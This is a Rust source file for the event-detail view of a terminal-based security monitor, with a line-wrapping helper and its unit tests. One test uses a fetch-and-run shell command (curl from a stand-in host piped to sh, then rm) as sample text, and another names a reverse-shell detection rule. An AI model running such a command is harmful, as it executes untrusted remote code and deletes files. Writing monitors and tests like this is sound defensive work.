//! The detail view (`Enter`): every field of the selected event, its process ancestry, the
//! rules it matched with their scores, and the recommendation.
//!
//! Long values are wrapped here, not by ratatui's `Wrap` (which cannot hang-indent): their
//! continuation lines start under the value column, so the field names stay readable.
use ratatui::{
    Frame,
    layout::Rect,
    text::{Line, Span},
    widgets::{Block, Borders, Clear, Paragraph, Wrap},
};

use super::{Styles, Theme, clean, severity_marker};
use crate::{
    app::{App, BlockTarget},
    event::{Event, Severity},
};

pub fn render(frame: &mut Frame, area: Rect, app: &App, theme: Theme) {
    let Some(detail) = &app.detail else { return };
    let Some(entry) = &detail.entry else { return };
    let styles = Styles::new(theme);
    // Inside the borders.
    let width = usize::from(area.width.saturating_sub(2));
    let lines: Vec<Line> = lines(app, entry, &styles)
        .into_iter()
        .flat_map(|line| hang(line, width))
        .collect();
    detail.lines.set(lines.len());
    let scroll = detail.scroll.min(lines.len().saturating_sub(1));
    let block = Block::new().borders(Borders::ALL).title(Span::styled(
        " Event detail — ↑↓ scroll · b block · e its events · Esc closes ",
        styles.title(true),
    ));
    frame.render_widget(Clear, area);
    frame.render_widget(
        Paragraph::new(lines)
            .block(block)
            .wrap(Wrap { trim: false })
            .scroll((u16::try_from(scroll).unwrap_or(u16::MAX), 0)),
        area,
    );
}

/// Columns before a list item's text (`   • `).
const ITEM_COLUMN: usize = 5;

/// `line` cut into lines at most `width` columns wide, each continuation indented to where
/// the line's text starts (the value column of a field, the text of a `•` item); words stay
/// whole where they fit. A line that fits is returned as it is.
pub(super) fn hang(line: Line<'_>, width: usize) -> Vec<Line<'_>> {
    if line.width() <= width || width == 0 {
        return vec![line];
    }
    let indent = if line.spans.len() > 1 {
        // A field: its name span (a space and the name padded to 15), then the value.
        line.spans[0].width()
    } else if line
        .spans
        .first()
        .is_some_and(|s| s.content.starts_with("   • "))
    {
        ITEM_COLUMN
    } else {
        0
    };
    // No room for a value column: cut at the border.
    let indent = if indent + 8 > width { 0 } else { indent };
    let mut out: Vec<Line> = vec![Line::default()];
    let mut used = 0;
    for span in line.spans {
        for piece in pieces(&span.content) {
            let mut piece = piece.to_string();
            loop {
                let columns = text_width(&piece);
                if used + columns <= width {
                    used += columns;
                    push(&mut out, &piece, span.style);
                    break;
                }
                if used + text_width(piece.trim_end()) <= width {
                    // The word fits, the space after it does not: the line ends here.
                    push(&mut out, piece.trim_end(), span.style);
                    out.push(Line::from(" ".repeat(indent)));
                    used = indent;
                    break;
                }
                // Not on this line: a word that fits on a fresh line goes there whole, a
                // longer one is cut to what is left of this line.
                let room = width - used;
                let fresh = width - indent;
                let (head, rest) = if (columns <= fresh && used > indent) || room == 0 {
                    (String::new(), piece)
                } else {
                    split_at_width(&piece, room.max(1))
                };
                push(&mut out, &head, span.style);
                out.push(Line::from(" ".repeat(indent)));
                used = indent;
                piece = rest.trim_start_matches(' ').to_string();
                if piece.is_empty() {
                    break;
                }
            }
        }
    }
    // A line that ended exactly at the width leaves an indent with nothing after it.
    out.retain(|l| l.spans.iter().any(|s| !s.content.trim().is_empty()));
    for line in &mut out {
        if let Some(last) = line.spans.last_mut() {
            last.content = last.content.trim_end().to_string().into();
        }
    }
    out
}

/// `text` in words, each with the spaces after it.
fn pieces(text: &str) -> impl Iterator<Item = &str> {
    text.split_inclusive(' ')
}

fn text_width(text: &str) -> usize {
    use unicode_width::UnicodeWidthChar;
    text.chars().map(|c| c.width().unwrap_or(0)).sum()
}

/// The longest start of `text` at most `columns` wide (at least one character), and the rest.
fn split_at_width(text: &str, columns: usize) -> (String, String) {
    use unicode_width::UnicodeWidthChar;
    let mut used = 0;
    let mut end = 0;
    for (i, c) in text.char_indices() {
        let w = c.width().unwrap_or(0);
        if used + w > columns && i > 0 {
            break;
        }
        used += w;
        end = i + c.len_utf8();
    }
    (text[..end].to_string(), text[end..].to_string())
}

fn push(lines: &mut [Line<'_>], text: &str, style: ratatui::style::Style) {
    if let Some(line) = lines.last_mut()
        && !text.is_empty()
    {
        line.spans.push(Span::styled(text.to_string(), style));
    }
}

fn field<'a>(styles: &Styles, name: &str, value: impl Into<String>) -> Line<'a> {
    Line::from(vec![
        Span::styled(format!(" {name:<15}"), styles.bold()),
        Span::raw(value.into()),
    ])
}

fn lines<'a>(app: &App, entry: &crate::app::Entry, styles: &Styles) -> Vec<Line<'a>> {
    let event: &Event = &entry.event;
    let analysis = &event.analysis;
    let severity = analysis.severity;
    let severity_name = match severity {
        Severity::Benign => "benign",
        Severity::Suspicious => "suspicious",
        Severity::Malicious => "malicious",
    };
    let mut out = vec![
        field(
            styles,
            "event",
            match &event.syscall {
                Some(s) => format!("{} (syscall {})", event.event_type, clean(s)),
                None => event.event_type.to_string(),
            },
        ),
        field(
            styles,
            "time",
            event
                .timestamp
                .with_timezone(&app.offset)
                .format("%Y-%m-%d %H:%M:%S%.6f %:z")
                .to_string(),
        ),
        Line::from(vec![
            Span::styled(format!(" {:<15}", "risk"), styles.bold()),
            Span::styled(
                format!(
                    "{} {:.2} {severity_name}",
                    severity_marker(severity),
                    analysis.risk_score
                ),
                styles.severity(severity),
            ),
            Span::raw(format!(
                "  ({}{}: {})",
                clean(&analysis.detection_method),
                // Rules are certain of what they match; the seed heuristic is not.
                if analysis.confidence > 0.0 && analysis.confidence < 1.0 {
                    format!(", confidence {:.2}", analysis.confidence)
                } else {
                    String::new()
                },
                clean(&analysis.label)
            )),
        ]),
    ];
    if analysis.rules.is_empty() {
        out.push(field(styles, "matched rules", "none"));
    } else {
        out.push(field(styles, "matched rules", ""));
        for name in &analysis.rules {
            let score = app
                .rule_info(name)
                .map(|r| {
                    let mut text = format!("  score {:.2}, {}", r.score, r.action);
                    // ATT&CK, when the rule documents it.
                    for part in [r.doc.tactic_keys(), r.doc.techniques.join(" ")] {
                        if !part.is_empty() {
                            text.push_str(", ");
                            text.push_str(&clean(&part));
                        }
                    }
                    text
                })
                .unwrap_or_default();
            out.push(Line::raw(format!("   • {}{score}", clean(name))));
        }
    }
    if analysis.process_risk > 0.0 {
        out.push(field(
            styles,
            "process risk",
            format!(
                "{:.2} (all its rule matches so far, halving every 10 min)",
                analysis.process_risk
            ),
        ));
    }
    if !analysis.recommendation.is_empty() {
        out.push(field(
            styles,
            "recommendation",
            clean(&analysis.recommendation).into_owned(),
        ));
    }
    if let Some(mark) = app.block_mark(entry) {
        out.push(Line::from(vec![
            Span::styled(format!(" {:<15}", "response"), styles.bold()),
            Span::styled(
                format!("would block {} (simulated)", clean(&mark.what)),
                styles.blocked(),
            ),
        ]));
    } else if let Some(target) = BlockTarget::of(event) {
        out.push(field(
            styles,
            "response",
            format!("b: simulate blocking {}", clean(&target.describe(event))),
        ));
    }
    out.push(Line::raw(""));
    out.push(field(
        styles,
        "process",
        format!(
            "{}  pid {}  tid {}  ppid {}",
            clean(&event.process),
            event.pid,
            event.tid,
            event.ppid
        ),
    ));
    out.push(field(
        styles,
        "user",
        format!("{} (uid {})", clean(&event.user), event.uid),
    ));
    out.push(field(styles, "executable", clean(&event.exe).into_owned()));
    out.push(field(
        styles,
        "command line",
        clean(&event.cmdline).into_owned(),
    ));
    if let Some(argv) = &event.argv {
        let args: Vec<String> = argv.iter().map(|a| format!("\"{}\"", clean(a))).collect();
        out.push(field(styles, "argv", args.join(" ")));
    }
    let mut ancestry = vec![format!("{} ({})", clean(&event.process), event.pid)];
    if event.ancestors.is_empty() && !event.parent_process.is_empty() {
        ancestry.push(format!("{} ({})", clean(&event.parent_process), event.ppid));
    }
    ancestry.extend(event.ancestors.iter().map(|a| clean(a).into_owned()));
    out.push(field(styles, "ancestry", ancestry.join(" ← ")));
    out.push(field(styles, "cgroup", event.cgroup_id.to_string()));
    out.push(Line::raw(""));
    for (name, value) in specific_fields(event) {
        out.push(field(styles, name, value));
    }
    if event.truncated {
        out.push(field(
            styles,
            "truncated",
            "yes: the kernel cut a path or argument",
        ));
    }
    out.push(Line::raw(""));
    out.extend(loss_lines(app, styles));
    out
}

/// What the monitor lost since start, by reason: events missing around this one, or
/// context (process, fd) that its fields may lack.
fn loss_lines<'a>(app: &App, styles: &Styles) -> Vec<Line<'a>> {
    if app.losses.total() == 0 {
        return vec![field(styles, "monitor losses", "none since start")];
    }
    let mut out = vec![Line::from(vec![
        Span::styled(format!(" {:<15}", "monitor losses"), styles.bold()),
        Span::styled(
            format!("{} since start, by reason:", app.losses.total()),
            styles.error(),
        ),
    ])];
    for (reason, n) in app.losses.nonzero() {
        out.push(Line::raw(format!("   • {reason} {n}")));
    }
    out
}

/// The fields that apply to this event type, in schema order.
fn specific_fields(e: &Event) -> Vec<(&'static str, String)> {
    let text = |v: Option<&str>| v.map(|s| clean(s).into_owned());
    let number = |v: Option<u64>| v.map(|n| n.to_string());
    let candidates: Vec<(&'static str, Option<String>)> = vec![
        ("exit code", e.exit_code.map(|c| c.to_string())),
        ("exit signal", e.exit_signal.map(|s| s.to_string())),
        ("ptrace request", text(e.ptrace_request.as_deref())),
        ("target pid", e.target_pid.map(|p| p.to_string())),
        ("file", text(e.file_path.as_deref())),
        ("new path", text(e.new_path.as_deref())),
        ("flags", text(e.flags.as_deref())),
        ("mode", e.mode.map(|m| format!("{m:04o}"))),
        ("old uid", e.old_uid.map(|u| u.to_string())),
        ("new uid", e.new_uid.map(|u| u.to_string())),
        ("old gid", e.old_gid.map(|g| g.to_string())),
        ("new gid", e.new_gid.map(|g| g.to_string())),
        (
            "capabilities",
            e.capabilities
                .map(|[eff, prm, inh]| format!("eff {eff:#x} prm {prm:#x} inh {inh:#x}")),
        ),
        ("protocol", text(e.protocol.as_deref())),
        (
            "local",
            e.source_ip.map(|ip| match e.source_port {
                Some(p) => crate::app::endpoint(ip, p),
                None => ip.to_string(),
            }),
        ),
        (
            "remote",
            e.target_ip.map(|ip| match e.target_port {
                Some(p) => crate::app::endpoint(ip, p),
                None => ip.to_string(),
            }),
        ),
        ("bytes sent", number(e.bytes_sent)),
        ("bytes received", number(e.bytes_received)),
        ("duration", e.duration_ms.map(|d| format!("{d:.3} ms"))),
        ("bpf program", text(e.bpf_prog_name.as_deref())),
        ("bpf type", e.bpf_prog_type.map(|t| t.to_string())),
        ("module params", text(e.module_params.as_deref())),
    ];
    candidates
        .into_iter()
        .filter_map(|(name, value)| value.map(|v| (name, v)))
        .collect()
}

#[cfg(test)]
mod tests {
    use ratatui::text::{Line, Span};

    use super::hang;

    fn texts(lines: &[Line]) -> Vec<String> {
        lines.iter().map(|l| l.to_string()).collect()
    }

    fn field(value: &str) -> Line<'_> {
        Line::from(vec![
            Span::raw(format!(" {:<15}", "command line")),
            Span::raw(value),
        ])
    }

    #[test]
    fn wrapped_values_hang_under_their_column() {
        let lines = hang(field("sh -c curl http://x/a.sh | sh; rm -f /tmp/a"), 36);
        assert_eq!(
            texts(&lines),
            [
                " command line   sh -c curl",
                "                http://x/a.sh | sh;",
                "                rm -f /tmp/a",
            ]
        );
        assert!(lines.iter().all(|l| l.width() <= 36));
    }

    #[test]
    fn a_word_longer_than_the_column_is_cut() {
        let lines = hang(field("/a/very/long/path/without/any/spaces/in/it"), 30);
        assert_eq!(
            texts(&lines),
            [
                " command line   /a/very/long/p",
                "                ath/without/an",
                "                y/spaces/in/it",
            ]
        );
    }

    #[test]
    fn wide_characters_count_twice() {
        let lines = hang(field("漢字漢字漢字漢字漢字"), 26);
        assert_eq!(
            texts(&lines),
            [" command line   漢字漢字漢", "                字漢字漢字"]
        );
        assert!(lines.iter().all(|l| l.width() <= 26));
    }

    #[test]
    fn list_items_hang_under_their_text_and_short_lines_stay() {
        let item = Line::raw("   • reverse_shell_port  score 0.90, simulate_block");
        assert_eq!(
            texts(&hang(item, 34)),
            [
                "   • reverse_shell_port  score",
                "     0.90, simulate_block"
            ]
        );
        let short = field("dropper");
        assert_eq!(texts(&hang(short, 80)), [" command line   dropper"]);
        // Too narrow for a value column: cut at the border, nothing lost.
        let narrow = hang(field("abcdefgh"), 20);
        assert!(narrow.iter().all(|l| l.width() <= 20));
        let letters: String = texts(&narrow).concat().split_whitespace().collect();
        assert_eq!(letters, "commandlineabcdefgh");
    }
}
